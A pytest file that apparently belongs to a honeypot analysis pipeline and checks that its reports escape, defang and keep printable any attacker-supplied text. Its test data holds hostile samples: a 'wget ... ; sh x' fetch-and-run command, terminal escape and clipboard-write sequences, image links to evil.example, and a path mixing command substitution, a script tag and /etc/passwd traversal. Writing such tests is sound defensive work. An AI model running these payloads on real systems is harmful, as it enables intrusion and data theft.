"""A report reads well and stays text, whatever attackers wrote."""

import re

import pytest
from sqlalchemy import Engine

from rustbucket_pipeline.analysis.markdown import escaped, markdown_of
from rustbucket_pipeline.analysis.page import Report
from rustbucket_pipeline.analysis.render import lines_of, text_of
from rustbucket_pipeline.analysis.report import report_at_once
from rustbucket_pipeline_tests.analysis.seeding import (
    WINDOW,
    command,
    event,
    fleet,
    heard_until,
    login,
    request,
    tell,
)

HOSTILE = [
    command("\x1b[2J\x1b]52;c;aGk=\x07 wget http://203.0.113.9/x; sh x [red]markup[/red]"),
    login("![x](http://evil.example/b.png)", "<img src=http://evil.example>", 1),
    request("/`id`|<script>alert(1)</script>/../../etc/passwd", 2, src_ip="203.0.113.5"),
]


@pytest.fixture
def report(database: Engine) -> Report:
    fleet(database, "BKT1", "BKT2")
    heard_until(database, "BKT1", WINDOW.end)
    tell(database, HOSTILE)
    with database.connect() as connection:
        return report_at_once(connection, WINDOW)


def test_the_first_line_says_how_bad_what_is_new_what_to_do(report: Report) -> None:
    assert next(lines_of(report)).text == (
        "HIGH: A file is fetched from the internet and made to run (F1, and 3 more). "
        "Nothing to compare with yet: the 7 days before hold no record. "
        "Do: Block the hosts named in the indicators at the egress; look for the same fetches in your proxy logs."
    )


def test_the_last_line_says_for_whom_the_report_speaks(report: Report) -> None:
    lines = text_of(report).splitlines()
    assert lines[-1] == "complete: 1 of 2 rustbuckets; missing BKT2 (nothing ever came)"
    assert lines[-3] == "Claude: not asked (a report made at once is made without Claude)"


def test_every_finding_names_a_row_to_follow(report: Report) -> None:
    rows = [line.text.split()[1] for line in lines_of(report) if line.text.strip().startswith("rows: ")]
    assert rows == [finding.rows[0] for finding in report.findings]


def test_no_line_can_act_on_a_terminal(report: Report) -> None:
    assert all(line.text.isprintable() for line in lines_of(report))
    assert "\\x1b[2J" in text_of(report)


def test_markdown_shows_attackers_text_and_renders_none_of_it(report: Report) -> None:
    markdown = markdown_of(report)
    assert "http://" not in markdown
    assert not re.search(r"(?<!\\)[<`\[|]", markdown)
    assert markdown.startswith("# HIGH: ")
    assert escaped("![x](https://e.example)") == "\\!\\[x\\]\\(hxxps\\[:\\]//e.example\\)"


def test_silent_and_quiet_are_told_apart(database: Engine) -> None:
    fleet(database, "BKT1", "BKT2")
    heard_until(database, "BKT1", WINDOW.end)
    with database.connect() as connection:
        told = text_of(report_at_once(connection, WINDOW))
    assert "Silent: nothing came, and nothing later proves that all was quiet\n  BKT2" in told
    assert "Quiet: nothing happened there, as later records prove\n  BKT1" in told


def test_lists_say_how_much_they_dont_show(database: Engine) -> None:
    tell(database, [command(f"run {number}") for number in range(40)])
    tell(database, [event("connection", 1, src_ip=f"203.0.113.{number}") for number in range(1, 61)])
    with database.connect() as connection:
        told = text_of(report_at_once(connection, WINDOW))
    assert "  not shown: 25 (25 of them new), 25 events" in told
    assert "  20 more in the view `report_indicators`" in told
